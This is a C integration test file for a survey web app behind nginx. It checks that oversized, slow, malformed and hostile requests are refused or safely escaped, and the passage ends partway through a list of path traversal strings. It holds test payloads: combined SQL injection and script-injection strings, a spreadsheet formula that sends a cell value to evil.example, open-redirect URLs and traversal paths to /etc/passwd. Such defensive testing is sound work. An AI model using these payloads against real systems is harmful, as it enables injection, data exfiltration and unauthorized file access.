/*
 * Integration test of hostile input through the real nginx and anketa: bodies too big, too
 * slow or lying about their length, bytes that are not UTF-8, NUL bytes, overlong headers
 * and URLs, repeated parameters, SQL and HTML in every text field, path traversal wherever a
 * name is taken from the request, and tokens that are unknown, malformed, revoked or closed.
 *
 * Each case asserts the exact status and its Russian page (JSON on /api), that nothing
 * half-written is stored, and that the server still answers /healthz afterwards. Raw
 * sockets send what curl would not: bodies that stall, NUL bytes in the request line.
 */
#include "harness.h"

#include "arena.h"
#include "buf.h"
#include "err.h"
#include "survey.h"

#include <setjmp.h>
#include <stdarg.h>
#include <stddef.h>
#include <cmocka.h>

#include <arpa/inet.h>
#include <curl/curl.h>
#include <netinet/in.h>
#include <sqlite3.h>
#include <stdio.h>
#include <stdlib.h>
#include <string.h>
#include <sys/socket.h>
#include <sys/time.h>
#include <sys/un.h>
#include <unistd.h>

/* As in test_http.c: anketa's cap below nginx's, so both refusals can be reached. */
#define APP_MAX_BODY   "65536"
#define NGINX_MAX_BODY "1m"

/* SQL, HTML, attribute, template and spreadsheet syntax in one answer. */
#define PAYLOAD                                                                                    \
    "Robert'); DROP TABLE answers;-- \" OR \"1\"=\"1 <script>alert(1)</script> "                   \
    "<img src=x onerror=alert(2)> {{t.page}} ${7*7} </textarea><b>жирный</b> &amp; &lt;"
/* A formula a spreadsheet would run, if the export did not defuse it. */
#define FORMULA "=HYPERLINK(\"http://evil.example/\"&A1,\"нажми\")"

static struct harness h;
static struct survey *mentee;
static char curator_cookie[160];

static int cli(const char *fmt, ...)
{
    char cmd[2048], out[4096];
    va_list ap;
    va_start(ap, fmt);
    vsnprintf(cmd, sizeof cmd, fmt, ap);
    va_end(ap);
    int rc = harness_run(cmd, out, sizeof out);
    if (rc != 0)
        fprintf(stderr, "%s\n%s\n", cmd, out);
    return rc;
}

static int setup(void **state)
{
    (void)state;
    struct err e = {0};
    char path[1200];
    snprintf(path, sizeof path, "%s/surveys/mentee-final.yaml", getenv("ANKETA_ROOT"));
    if (survey_load(path, &mentee, &e) < 0) {
        fprintf(stderr, "cannot load %s: %s\n", path, e.msg);
        return -1;
    }
    curl_global_init(CURL_GLOBAL_DEFAULT);
    if (harness_start(&h, APP_MAX_BODY, NGINX_MAX_BODY) < 0)
        return -1;
    /* The curator of the harness's school, who sees its answers in downloads. */
    return cli("printf '%%s\\n' 'пароль-куратора' | %s/%s user add hcur --role curator --org "
               "t-school --name 'Тест' --db %s",
               h.root, getenv("ANKETA_BIN"), h.db);
}

static int teardown(void **state)
{
    (void)state;
    int rc = h.anketa > 0 ? harness_stop(&h) : 0;
    if (rc == 0)
        harness_cleanup(&h);
    else
        fprintf(stderr, "logs kept in %s\n", h.dir);
    survey_free(mentee);
    curl_global_cleanup();
    return rc == 0 ? 0 : -1;
}

/* The server answers its health check: whatever came before did not break it. */
static void assert_healthy(void)
{
    struct http_result r;
    assert_int_equal(http_request(&h, "GET", "/healthz", NULL, 0, NULL, &r), 0);
    assert_int_equal(r.status, 200);
    assert_non_null(strstr(r.body, "\"status\":\"ok\""));
    http_result_free(&r);
}

static long responses_of(const char *token)
{
    return harness_sql_long(&h,
                            "SELECT count(*) FROM responses r JOIN invitations i "
                            "ON i.id = r.invitation_id WHERE i.token = ?",
                            token);
}

/* Responses stored without every answer a complete one has: must stay 0. */
static long half_responses(void)
{
    long n = 0;
    char per[32];
    for (size_t i = 0; i < mentee->nquestions; i++)
        n += mentee->questions[i].nitems ? (long)mentee->questions[i].nitems : 1;
    snprintf(per, sizeof per, "%ld", n);
    return harness_sql_long(&h,
                            "SELECT count(*) FROM responses r WHERE r.survey_id = 'mentee-final' "
                            "AND (SELECT count(*) FROM answers a WHERE a.response_id = r.id) "
                            "!= CAST(?1 AS INTEGER)",
                            per);
}

/* A valid body for the mentee's final questionnaire, each text answer set to text. */
static char *answers_body(struct arena *a, const char *csrf, const char *text)
{
    struct buf b;
    buf_init(&b, a);
    buf_puts(&b, "csrf=");
    buf_put_url(&b, csrf, strlen(csrf));
    for (size_t i = 0; i < mentee->nquestions; i++) {
        const struct question *q = &mentee->questions[i];
        if (q->type == Q_MATRIX) {
            for (size_t k = 0; k < q->nitems; k++)
                buf_printf(&b, "&q.%s=%ld", q->items[k].id, q->items[k].max);
            continue;
        }
        buf_printf(&b, "&q.%s=", q->id);
        switch (q->type) {
        case Q_YESNO: buf_puts(&b, "yes"); break;
        case Q_SCALE: buf_printf(&b, "%ld", q->max); break;
        case Q_CHOICE: buf_puts(&b, q->choices[0].value); break;
        case Q_NUMBER: buf_printf(&b, "%ld", q->has_min ? q->min : 1); break;
        case Q_TEXT: buf_put_url(&b, text, strlen(text)); break;
        default: break;
        }
    }
    return b.data;
}

static void open_form(const char *token, char *csrf, size_t csize, char *cookie, size_t ksize)
{
    char path[128];
    snprintf(path, sizeof path, "/s/%s", token);
    struct http_result r;
    assert_int_equal(http_request(&h, "GET", path, NULL, 0, NULL, &r), 0);
    assert_int_equal(r.status, 200);
    assert_int_equal(http_form_secrets(&r, csrf, csize, cookie, ksize), 0);
    http_result_free(&r);
}

static long post_form(const char *token, const char *cookie, const char *body, size_t len,
                      struct http_result *r)
{
    char path[128], headers[512];
    snprintf(path, sizeof path, "/s/%s", token);
    snprintf(headers, sizeof headers, "Content-Type: application/x-www-form-urlencoded\nCookie: %s",
             cookie);
    assert_int_equal(http_request(&h, "POST", path, body, len, headers, r), 0);
    return r->status;
}

/* A fresh link with its form opened: token, CSRF value and cookie. */
struct link {
    char token[23];
    char csrf[128];
    char cookie[128];
};

static void fresh_link(struct link *l)
{
    assert_int_equal(harness_invite(&h, "mentee-final", l->token), 0);
    open_form(l->token, l->csrf, sizeof l->csrf, l->cookie, sizeof l->cookie);
}

/* A connection of our own to nginx, for bytes curl would not send. */
static int raw_connect(void)
{
    int fd = socket(AF_INET, SOCK_STREAM, 0);
    assert_true(fd >= 0);
    struct sockaddr_in sa = {.sin_family = AF_INET, .sin_port = htons((uint16_t)h.port)};
    sa.sin_addr.s_addr = htonl(INADDR_LOOPBACK);
    assert_int_equal(connect(fd, (struct sockaddr *)&sa, sizeof sa), 0);
    /* A bound on a test that went wrong, not a timing assertion. */
    struct timeval tv = {.tv_sec = 60};
    setsockopt(fd, SOL_SOCKET, SO_RCVTIMEO, &tv, sizeof tv);
    return fd;
}

static void raw_send(int fd, const void *p, size_t n)
{
    assert_int_equal(send(fd, p, n, MSG_NOSIGNAL), (ssize_t)n);
}

/* Reads the whole answer (the requests say Connection: close); returns its status. */
static long raw_read(int fd, char **body)
{
    size_t len = 0, cap = 65536;
    char *p = malloc(cap + 1);
    assert_non_null(p);
    for (;;) {
        if (len == cap) {
            cap *= 2;
            p = realloc(p, cap + 1);
            assert_non_null(p);
        }
        ssize_t n = recv(fd, p + len, cap - len, 0);
        if (n <= 0)
            break;
        len += (size_t)n;
    }
    p[len] = '\0';
    close(fd);
    long status = -1;
    if (sscanf(p, "HTTP/1.%*d %ld", &status) != 1)
        status = -1;
    char *start = strstr(p, "\r\n\r\n");
    if (body)
        *body = strdup(start ? start + 4 : "");
    free(p);
    return status;
}

static long raw_exchange(const void *req, size_t n, char **body)
{
    int fd = raw_connect();
    raw_send(fd, req, n);
    return raw_read(fd, body);
}

/* A page of ours (or nginx's static one) in Russian, not nginx's built-in English one. */
static void assert_russian_page(const char *body, const char *words)
{
    assert_non_null(strstr(body, "<html lang=\"ru\">"));
    assert_non_null(strstr(body, words));
    assert_null(strstr(body, "<center>nginx</center>"));
}

/* ---------------------------------------------------------------------------------------- */

static void test_bodies_too_big_or_short(void **state)
{
    (void)state;
    struct link l;
    fresh_link(&l);
    struct http_result r;
    /* Too big for anketa, for nginx, and announced too big without being sent. */
    size_t n = 100 * 1024;
    char *big = malloc(2 * 1024 * 1024 + 1);
    assert_non_null(big);
    memset(big, 'a', 2 * 1024 * 1024);
    memcpy(big, "q.x=", 4);
    assert_int_equal(post_form(l.token, l.cookie, big, n, &r), 413);
    assert_russian_page(r.body, "Слишком большой объём ответа");
    http_result_free(&r);
    assert_int_equal(post_form(l.token, l.cookie, big, 2 * 1024 * 1024, &r), 413);
    assert_russian_page(r.body, "Слишком большой объём ответа");
    http_result_free(&r);
    free(big);
    char *page = NULL;
    char req[512];
    int len = snprintf(req, sizeof req,
                       "POST /s/%s HTTP/1.1\r\nHost: t\r\nConnection: close\r\nContent-Type: "
                       "application/x-www-form-urlencoded\r\nContent-Length: 104857600\r\n\r\n",
                       l.token);
    assert_int_equal(raw_exchange(req, (size_t)len, &page), 413);
    assert_russian_page(page, "Слишком большой объём ответа");
    free(page);

    /* A body that ends before its Content-Length: nginx gives up on it, nothing is stored. */
    struct arena *a = arena_new();
    const char *body = answers_body(a, l.csrf, "коротко");
    int fd = raw_connect();
    len = snprintf(req, sizeof req,
                   "POST /s/%s HTTP/1.1\r\nHost: t\r\nConnection: close\r\nContent-Type: "
                   "application/x-www-form-urlencoded\r\nCookie: %s\r\nContent-Length: %zu\r\n\r\n",
                   l.token, l.cookie, strlen(body) + 10);
    raw_send(fd, req, (size_t)len);
    raw_send(fd, body, strlen(body));
    shutdown(fd, SHUT_WR);
    long status = raw_read(fd, NULL);
    assert_true(status == -1 || status == 400);
    arena_free(a);
    assert_int_equal(responses_of(l.token), 0);
    assert_int_equal(half_responses(), 0);
    assert_healthy();
}

/*
 * Clients that send their headers or body a byte at a time, or stop half-way, hold a
 * connection to nginx, never a worker: nginx reads the whole body before it passes the
 * request on. With more stalled clients than workers, others are served all the same.
 */
static void test_slow_clients_do_not_hold_workers(void **state)
{
    (void)state;
    enum { STALLED = 8 };
    struct link links[STALLED];
    int fds[STALLED];
    struct arena *a = arena_new();
    const char *bodies[STALLED];
    for (int i = 0; i < STALLED; i++) {
        fresh_link(&links[i]);
        bodies[i] = answers_body(a, links[i].csrf, "медленно");
        char req[512];
        int len = snprintf(req, sizeof req,
                           "POST /s/%s HTTP/1.1\r\nHost: t\r\nConnection: close\r\nContent-Type: "
                           "application/x-www-form-urlencoded\r\nCookie: %s\r\nContent-Length: "
                           "%zu\r\n\r\n",
                           links[i].token, links[i].cookie, strlen(bodies[i]));
        fds[i] = raw_connect();
        /* Half of them stall inside their headers, half inside their bodies. */
        if (i % 2)
            raw_send(fds[i], req, (size_t)len / 2);
        else {
            raw_send(fds[i], req, (size_t)len);
            raw_send(fds[i], bodies[i], strlen(bodies[i]) / 2);
        }
    }
    assert_healthy();
    struct link other;
    fresh_link(&other);
    struct http_result r;
    const char *body = answers_body(a, other.csrf, "быстро");
    assert_int_equal(post_form(other.token, other.cookie, body, strlen(body), &r), 303);
    http_result_free(&r);

    /* The one that finishes its body, a byte at a time, is answered like any other. */
    const char *rest = bodies[0] + strlen(bodies[0]) / 2;
    for (size_t i = 0; rest[i]; i++)
        raw_send(fds[0], rest + i, 1);
    assert_int_equal(raw_read(fds[0], NULL), 303);
    assert_int_equal(responses_of(links[0].token), 1);
    /* The others give up: nothing of theirs is stored. */
    for (int i = 1; i < STALLED; i++)
        close(fds[i]);
    assert_healthy();
    for (int i = 1; i < STALLED; i++)
        assert_int_equal(responses_of(links[i].token), 0);
    assert_int_equal(half_responses(), 0);
    arena_free(a);
}

/*
 * Behind nginx, a local process that may connect to anketa's socket sends one byte of a
 * FastCGI record on a connection per worker and stops. Each worker gives up on its stalled
 * read after a few seconds (server.c, SERVER_READ_TIMEOUT_S) and serves nginx again, before
 * nginx's own 30 s timeout: the health check queued behind the stalled clients is answered.
 */
static void test_stalled_fastcgi_client(void **state)
{
    (void)state;
    enum { WORKERS = 2 };
    int fds[WORKERS];
    for (int i = 0; i < WORKERS; i++) {
        struct sockaddr_un sa = {.sun_family = AF_UNIX};
        assert_true(strlen(h.sock) < sizeof sa.sun_path);
        memcpy(sa.sun_path, h.sock, strlen(h.sock) + 1);
        fds[i] = socket(AF_UNIX, SOCK_STREAM, 0);
        assert_true(fds[i] >= 0);
        assert_int_equal(connect(fds[i], (struct sockaddr *)&sa, sizeof sa), 0);
        /* FCGI_VERSION_1, the first byte of a record header. */
        raw_send(fds[i], "\x01", 1);
    }
    assert_healthy();
    for (int i = 0; i < WORKERS; i++)
        close(fds[i]);
    assert_healthy();
}

/* Text answers that are not UTF-8, or hold control characters, are refused with 422 and
 * the form again; nothing is stored. */
static void test_invalid_utf8_and_control_bytes(void **state)
{
    (void)state;
    static const char *const bad[] = {
        "%FF%FE",       /* never in UTF-8 */
        "%C0%AF",       /* overlong '/' */
        "%E0%80%AF",    /* overlong, three bytes */
        "%ED%A0%80",    /* a UTF-16 surrogate */
        "%F4%90%80%80", /* beyond U+10FFFF */
        "%D0",          /* truncated sequence */
        "%D0%D0",       /* a lead byte where a continuation belongs */
        "a%01b",        /* a control character */
        "a%1Bb",        /* ESC */
        "a%7Fb",        /* DEL */
        "%EF%BB%BF%80", /* a BOM, then a stray continuation byte */
    };
    const struct question *text = NULL;
    for (size_t i = 0; i < mentee->nquestions && !text; i++)
        if (mentee->questions[i].type == Q_TEXT)
            text = &mentee->questions[i];
    assert_non_null(text);
    struct arena *a = arena_new();
    for (size_t i = 0; i < sizeof bad / sizeof *bad; i++) {
        struct link l;
        fresh_link(&l);
        /* answers_body encodes its text: put the raw escapes in by hand. */
        char *body = answers_body(a, l.csrf, "x");
        char *at = strstr(body, arena_printf(a, "&q.%s=x", text->id));
        assert_non_null(at);
        at[strlen(text->id) + 4] = '\0';
        char *whole = arena_printf(a, "%s%s%s", body, bad[i], at + strlen(text->id) + 5);
        struct http_result r;
        long status = post_form(l.token, l.cookie, whole, strlen(whole), &r);
        if (status != 422)
            fail_msg("%s: %ld", bad[i], status);
        assert_russian_page(r.body, "Ответ содержит недопустимые символы.");
        /* The answer comes back with what is not text shown as U+FFFD. */
        if (i == 0)
            assert_non_null(strstr(r.body, "value=\"\xEF\xBF\xBD\xEF\xBF\xBD\""));
        http_result_free(&r);
        assert_int_equal(responses_of(l.token), 0);
    }
    arena_free(a);
    assert_int_equal(half_responses(), 0);
    assert_healthy();
}

/* NUL bytes: encoded or raw in a body (400, anketa's page), raw or encoded in the request
 * line (400, nginx's Russian page). */
static void test_nul_bytes(void **state)
{
    (void)state;
    struct link l;
    fresh_link(&l);
    struct http_result r;
    static const char with_nul[] = "csrf=x&q.met_where=a\0b";
    assert_int_equal(post_form(l.token, l.cookie, "csrf=x&q.met_where=a%00b", 24, &r), 400);
    assert_russian_page(r.body, "Не удалось прочитать ответ");
    http_result_free(&r);
    assert_int_equal(post_form(l.token, l.cookie, with_nul, sizeof with_nul - 1, &r), 400);
    assert_russian_page(r.body, "Не удалось прочитать ответ");
    http_result_free(&r);

    static const char raw_nul[] = "GET /s/AAAAAAAAAA\0AAAAAAAAAAA HTTP/1.1\r\nHost: t\r\n"
                                  "Connection: close\r\n\r\n";
    char *page = NULL;
    assert_int_equal(raw_exchange(raw_nul, sizeof raw_nul - 1, &page), 400);
    assert_russian_page(page, "Не удалось прочитать запрос");
    free(page);
    static const char enc_nul[] = "GET /s/AAAAAAAAAAAAAAAAAAAAA%00 HTTP/1.1\r\nHost: t\r\n"
                                  "Connection: close\r\n\r\n";
    assert_int_equal(raw_exchange(enc_nul, sizeof enc_nul - 1, &page), 400);
    assert_russian_page(page, "Не удалось прочитать запрос");
    free(page);
    static const char hdr_nul[] = "GET /healthz HTTP/1.1\r\nHost: t\r\nCookie: a=b\0c\r\n"
                                  "Connection: close\r\n\r\n";
    assert_int_equal(raw_exchange(hdr_nul, sizeof hdr_nul - 1, &page), 400);
    free(page);
    assert_int_equal(responses_of(l.token), 0);
    assert_healthy();
}

/* Headers and URLs beyond nginx's buffers: refused by nginx with its Russian page. */
static void test_overlong_headers_and_urls(void **state)
{
    (void)state;
    size_t n = 64 * 1024;
    char *req = malloc(n + 512);
    char *page = NULL;
    assert_non_null(req);

    char *fill = malloc(n + 1);
    assert_non_null(fill);
    memset(fill, 'a', n);
    fill[n] = '\0';
    int len = snprintf(req, n + 512,
                       "GET /healthz HTTP/1.1\r\nHost: t\r\nCookie: x=%s\r\nConnection: close\r\n"
                       "\r\n",
                       fill);
    assert_int_equal(raw_exchange(req, (size_t)len, &page), 400);
    assert_russian_page(page, "Не удалось прочитать запрос");
    free(page);

    len =
        snprintf(req, n + 512, "GET /s/%s HTTP/1.1\r\nHost: t\r\nConnection: close\r\n\r\n", fill);
    assert_int_equal(raw_exchange(req, (size_t)len, &page), 414);
    assert_russian_page(page, "Не удалось прочитать запрос");
    free(page);

    /* Many headers, each short: together beyond the buffers. */
    len = snprintf(req, n + 512, "GET /healthz HTTP/1.1\r\nHost: t\r\nConnection: close\r\n");
    for (int i = 0; i < 4000 && (size_t)len + 64 < n; i++)
        len += snprintf(req + len, n + 512 - (size_t)len, "X-H%d: %.8s\r\n", i, fill);
    len += snprintf(req + len, n + 512 - (size_t)len, "\r\n");
    assert_int_equal(raw_exchange(req, (size_t)len, &page), 400);
    assert_russian_page(page, "Не удалось прочитать запрос");
    free(page);

    /* A long query string and a long cookie within nginx's limits reach anketa, which reads
     * only the parameters it knows. */
    snprintf(fill + 7000, 2, "%s", "");
    char path[8192], headers[8192];
    struct link l;
    fresh_link(&l);
    snprintf(path, sizeof path, "/s/%s?lang=%s", l.token, fill);
    struct http_result r;
    assert_int_equal(http_request(&h, "GET", path, NULL, 0, NULL, &r), 0);
    assert_int_equal(r.status, 200);
    http_result_free(&r);
    snprintf(headers, sizeof headers, "Cookie: anketa_csrf=%s; anketa_session=%s", fill, fill);
    snprintf(path, sizeof path, "/s/%s", l.token);
    assert_int_equal(http_request(&h, "GET", path, NULL, 0, headers, &r), 0);
    assert_int_equal(r.status, 200);
    http_result_free(&r);
    assert_int_equal(http_request(&h, "GET", "/dash", NULL, 0, headers, &r), 0);
    assert_int_equal(r.status, 303);
    http_result_free(&r);
    free(fill);
    free(req);
    assert_healthy();
}

/* A parameter given twice is never resolved by picking one: the answer is refused. */
static void test_repeated_parameters(void **state)
{
    (void)state;
    struct arena *a = arena_new();
    struct http_result r;
    const struct question *text = NULL, *yesno = NULL;
    for (size_t i = 0; i < mentee->nquestions; i++) {
        if (!text && mentee->questions[i].type == Q_TEXT)
            text = &mentee->questions[i];
        if (!yesno && mentee->questions[i].type == Q_YESNO)
            yesno = &mentee->questions[i];
    }
    struct link l;
    fresh_link(&l);
    const char *body = answers_body(a, l.csrf, "раз");
    const char *twice[] = {
        arena_printf(a, "%s&q.%s=два", body, text->id),
        arena_printf(a, "%s&q.%s=no", body, yesno->id),
        arena_printf(a, "%s&q.%s=yes", body, yesno->id),
    };
    for (size_t i = 0; i < sizeof twice / sizeof *twice; i++) {
        assert_int_equal(post_form(l.token, l.cookie, twice[i], strlen(twice[i]), &r), 422);
        assert_non_null(strstr(r.body, "Выберите только один вариант.") ||
                                strstr(r.body, "Ответьте только один раз.")
                            ? r.body
                            : NULL);
        http_result_free(&r);
    }
    /* The CSRF value twice, the right one first: refused as unproven. */
    const char *csrf_twice = arena_printf(a, "%s&csrf=forged", body);
    assert_int_equal(post_form(l.token, l.cookie, csrf_twice, strlen(csrf_twice), &r), 403);
    http_result_free(&r);
    assert_int_equal(responses_of(l.token), 0);
    /* Unknown parameters are ignored, the answer is taken. */
    const char *extra = arena_printf(a, "%s&q.nope=1&zzz=%%3Cscript%%3E&=x&&", body);
    assert_int_equal(post_form(l.token, l.cookie, extra, strlen(extra), &r), 303);
    http_result_free(&r);
    assert_int_equal(responses_of(l.token), 1);
    arena_free(a);
    assert_int_equal(half_responses(), 0);
    assert_healthy();
}

/* The value of column of the answer to question qid of token's response, or NULL. */
static char *stored_text(const char *token, const char *qid)
{
    sqlite3 *db;
    sqlite3_stmt *st = NULL;
    char *out = NULL;
    assert_int_equal(sqlite3_open_v2(h.db, &db, SQLITE_OPEN_READONLY, NULL), SQLITE_OK);
    sqlite3_busy_timeout(db, 5000);
    assert_int_equal(sqlite3_prepare_v2(db,
                                        "SELECT a.value FROM answers a JOIN responses r ON r.id = "
                                        "a.response_id JOIN invitations i ON i.id = "
                                        "r.invitation_id WHERE i.token = ?1 AND a.question_id = ?2",
                                        -1, &st, NULL),
                     SQLITE_OK);
    sqlite3_bind_text(st, 1, token, -1, SQLITE_STATIC);
    sqlite3_bind_text(st, 2, qid, -1, SQLITE_STATIC);
    if (sqlite3_step(st) == SQLITE_ROW) {
        const void *v = sqlite3_column_blob(st, 0);
        int n = sqlite3_column_bytes(st, 0);
        out = malloc((size_t)n + 1);
        memcpy(out, v ? v : "", (size_t)n);
        out[n] = '\0';
    }
    sqlite3_finalize(st);
    sqlite3_close(db);
    return out;
}

static void sign_in_curator(void)
{
    struct http_result r;
    char pre[128], csrf[128], body[512], headers[512];
    assert_int_equal(http_request(&h, "GET", "/login", NULL, 0, NULL, &r), 0);
    assert_int_equal(http_form_secrets(&r, csrf, sizeof csrf, pre, sizeof pre), 0);
    http_result_free(&r);
    snprintf(body, sizeof body,
             "csrf=%s&login=hcur&password=%%D0%%BF%%D0%%B0%%D1%%80%%D0%%BE%%D0%%BB%%D1%%8C-%%D0%%BA"
             "%%D1%%83%%D1%%80%%D0%%B0%%D1%%82%%D0%%BE%%D1%%80%%D0%%B0&next=%%2Fdash",
             csrf);
    snprintf(headers, sizeof headers, "Content-Type: application/x-www-form-urlencoded\nCookie: %s",
             pre);
    assert_int_equal(http_request(&h, "POST", "/login", body, strlen(body), headers, &r), 0);
    assert_int_equal(r.status, 303);
    char set[256];
    assert_int_equal(http_header_value(&r, "Set-Cookie", set, sizeof set), 0);
    const char *at = strstr(r.headers, "anketa_session=");
    assert_non_null(at);
    snprintf(curator_cookie, sizeof curator_cookie, "%.*s", (int)strcspn(at, ";\r\n"), at);
    http_result_free(&r);
}

static long get_as_curator(const char *path, struct http_result *r)
{
    char headers[256];
    snprintf(headers, sizeof headers, "Cookie: %s", curator_cookie);
    assert_int_equal(http_request(&h, "GET", path, NULL, 0, headers, r), 0);
    return r->status;
}

/*
 * SQL and HTML in every text field: stored byte for byte, shown escaped on the re-shown
 * form, and defused in every download that carries text answers.
 */
static void test_payloads_stored_verbatim_shown_escaped(void **state)
{
    (void)state;
    struct arena *a = arena_new();
    struct link l;
    fresh_link(&l);
    struct http_result r;
    /* First a validation error: the form comes back with the payload escaped in every text
     * field, raw nowhere. */
    char *body = answers_body(a, l.csrf, PAYLOAD);
    char *bad = arena_printf(a, "%s&q.effectiveness=99", body);
    assert_int_equal(post_form(l.token, l.cookie, bad, strlen(bad), &r), 422);
    assert_null(strstr(r.body, "<script>alert"));
    assert_null(strstr(r.body, "<img src=x"));
    assert_null(strstr(r.body, "</textarea><b>"));
    const char *escaped =
        "Robert&#39;); DROP TABLE answers;-- &quot; OR &quot;1&quot;=&quot;1 "
        "&lt;script&gt;alert(1)&lt;/script&gt; &lt;img src=x onerror=alert(2)&gt; "
        "{{t.page}} ${7*7} &lt;/textarea&gt;&lt;b&gt;жирный&lt;/b&gt; "
        "&amp;amp; &amp;lt;";
    size_t shown = 0;
    for (const char *p = r.body; (p = strstr(p, escaped)) != NULL; p++)
        shown++;
    size_t ntext = 0;
    for (size_t i = 0; i < mentee->nquestions; i++)
        ntext += mentee->questions[i].type == Q_TEXT;
    assert_int_equal(shown, ntext);
    http_result_free(&r);
    assert_int_equal(responses_of(l.token), 0);

    /* Then stored: every text answer is the payload, byte for byte. */
    assert_int_equal(post_form(l.token, l.cookie, body, strlen(body), &r), 303);
    http_result_free(&r);
    for (size_t i = 0; i < mentee->nquestions; i++) {
        if (mentee->questions[i].type != Q_TEXT)
            continue;
        char *v = stored_text(l.token, mentee->questions[i].id);
        assert_non_null(v);
        assert_string_equal(v, PAYLOAD);
        free(v);
    }
    /* The tables the payload named are all there. */
    assert_true(harness_sql_long(&h, "SELECT count(*) FROM answers WHERE ?1 IS NOT NULL", "1") > 0);

    /* A formula in another response, for the spreadsheet downloads. */
    struct link f;
    fresh_link(&f);
    body = answers_body(a, f.csrf, FORMULA);
    assert_int_equal(post_form(f.token, f.cookie, body, strlen(body), &r), 303);
    http_result_free(&r);

    sign_in_curator();
    /* CSV: the payload is one quoted cell, the formula is defused with a leading quote. */
    assert_int_equal(get_as_curator("/dash/org/t-school/export/responses?format=csv", &r), 200);
    assert_non_null(strstr(r.body, "Robert'); DROP TABLE answers;-- \"\" OR \"\"1\"\"=\"\"1 "
                                   "<script>alert(1)</script>"));
    assert_non_null(strstr(r.body, "\"'=HYPERLINK("));
    assert_null(strstr(r.body, ",=HYPERLINK("));
    assert_null(strstr(r.body, "\"=HYPERLINK("));
    char value[256];
    assert_int_equal(http_header_value(&r, "Content-Type", value, sizeof value), 0);
    assert_non_null(strstr(value, "text/csv"));
    assert_int_equal(http_header_value(&r, "X-Content-Type-Options", value, sizeof value), 0);
    assert_string_equal(value, "nosniff");
    http_result_free(&r);
    /* JSON: the payload is a JSON string; the file is a download no browser renders. */
    assert_int_equal(get_as_curator("/dash/org/t-school/export/responses?format=json", &r), 200);
    assert_int_equal(http_header_value(&r, "Content-Disposition", value, sizeof value), 0);
    assert_true(strncmp(value, "attachment;", 11) == 0);
    assert_int_equal(http_header_value(&r, "X-Content-Type-Options", value, sizeof value), 0);
    assert_string_equal(value, "nosniff");
    json_error_t je;
    json_t *doc = json_loads(r.body, 0, &je);
    if (!doc)
        fail_msg("the JSON export does not parse: %s at %d", je.text, je.position);
    assert_non_null(strstr(r.body, "DROP TABLE answers"));
    json_decref(doc);
    http_result_free(&r);

    /* The organisation's name, edited to the payload, is escaped on the dashboard pages. */
    assert_int_equal(
        harness_sql_long(&h, "UPDATE orgs SET name = ?1 WHERE code = 't-school'", PAYLOAD), 0);
    assert_int_equal(get_as_curator("/dash/org/t-school", &r), 200);
    assert_null(strstr(r.body, "<script>alert"));
    assert_non_null(strstr(r.body, "&lt;script&gt;alert(1)&lt;/script&gt;"));
    http_result_free(&r);
    assert_int_equal(
        harness_sql_long(&h, "UPDATE orgs SET name = 'Тестовая школа' WHERE code = ?1", "t-school"),
        0);

    /* On the sign-in form, a login full of SQL and HTML is refused and shown escaped. */
    char pre[128], csrf[128], headers[512];
    assert_int_equal(http_request(&h, "GET", "/login", NULL, 0, NULL, &r), 0);
    assert_int_equal(http_form_secrets(&r, csrf, sizeof csrf, pre, sizeof pre), 0);
    http_result_free(&r);
    struct buf b;
    buf_init(&b, a);
    buf_printf(&b, "csrf=%s&login=", csrf);
    buf_put_url(&b, PAYLOAD, strlen(PAYLOAD));
    buf_puts(&b, "&password=");
    buf_put_url(&b, "' OR '1'='1", 11);
    snprintf(headers, sizeof headers, "Content-Type: application/x-www-form-urlencoded\nCookie: %s",
             pre);
    assert_int_equal(http_request(&h, "POST", "/login", b.data, b.len, headers, &r), 0);
    assert_int_equal(r.status, 401);
    assert_russian_page(r.body, "Неверный логин или пароль.");
    assert_null(strstr(r.body, "<script>alert"));
    assert_null(strstr(r.headers, "anketa_session="));
    http_result_free(&r);
    arena_free(a);
    assert_int_equal(half_responses(), 0);
    assert_healthy();
}

/* POSTs the sign-in form with a login, password and next (encoded here). */
static long post_sign_in(const char *login, const char *password, const char *next,
                         struct http_result *r)
{
    char pre[128], csrf[128], headers[512];
    assert_int_equal(http_request(&h, "GET", "/login", NULL, 0, NULL, r), 0);
    assert_int_equal(http_form_secrets(r, csrf, sizeof csrf, pre, sizeof pre), 0);
    http_result_free(r);
    struct arena *a = arena_new();
    struct buf b;
    buf_init(&b, a);
    buf_printf(&b, "csrf=%s&login=", csrf);
    buf_put_url(&b, login, strlen(login));
    buf_puts(&b, "&password=");
    buf_put_url(&b, password, strlen(password));
    buf_puts(&b, "&next=");
    buf_put_url(&b, next, strlen(next));
    snprintf(headers, sizeof headers, "Content-Type: application/x-www-form-urlencoded\nCookie: %s",
             pre);
    assert_int_equal(http_request(&h, "POST", "/login", b.data, b.len, headers, r), 0);
    arena_free(a);
    return r->status;
}

/* The sign-in form: bytes that are not UTF-8 are shown back replaced, never a 500, and a
 * "next" that a browser would read as another site is replaced by the dashboard. */
static void test_sign_in_form(void **state)
{
    (void)state;
    struct http_result r;
    assert_int_equal(post_sign_in("\xFF\xFEhcur", "x", "/dash", &r), 401);
    assert_russian_page(r.body, "Неверный логин или пароль.");
    assert_non_null(strstr(r.body, "value=\"\xEF\xBF\xBD\xEF\xBF\xBDhcur\""));
    http_result_free(&r);
    assert_int_equal(http_request(&h, "GET", "/login?next=%FF%2Fdash", NULL, 0, NULL, &r), 0);
    assert_int_equal(r.status, 200);
    http_result_free(&r);
    static const char *const away[] = {
        "/\t/evil.example/", "/\n/evil.example/",     "/\\evil.example/", "/ /evil.example/",
        "//evil.example/",   "https://evil.example/", "/\xFF/x",
    };
    for (size_t i = 0; i < sizeof away / sizeof *away; i++) {
        char location[256];
        assert_int_equal(post_sign_in("hcur", "пароль-куратора", away[i], &r), 303);
        assert_int_equal(http_header_value(&r, "Location", location, sizeof location), 0);
        if (strcmp(location, "/dash") != 0)
            fail_msg("next \"%s\" went to \"%s\"", away[i], location);
        http_result_free(&r);
    }
    /* A local path is kept. */
    char location[256];
    assert_int_equal(post_sign_in("hcur", "пароль-куратора", "/dash/org/t-school?x=1", &r), 303);
    assert_int_equal(http_header_value(&r, "Location", location, sizeof location), 0);
    assert_string_equal(location, "/dash/org/t-school?x=1");
    http_result_free(&r);
    assert_healthy();
}

/* Every name taken from a request: none reaches outside what it names. */
static void test_path_traversal(void **state)
{
    (void)state;
    struct http_result r;
    /* Static files: nginx normalises the path, and refuses what climbs above the root. */
    static const char *const statics[] = {
        "/static/../nginx.conf",
        "/static/..%2fnginx.conf",
        "/static/%2e%2e/nginx.conf",
        "/static/%2e%2e%2fnginx.conf",
        "/static/errors/../../../../../etc/passwd",
        "/static/..%5cnginx.conf",
        "/static/....//nginx.conf",
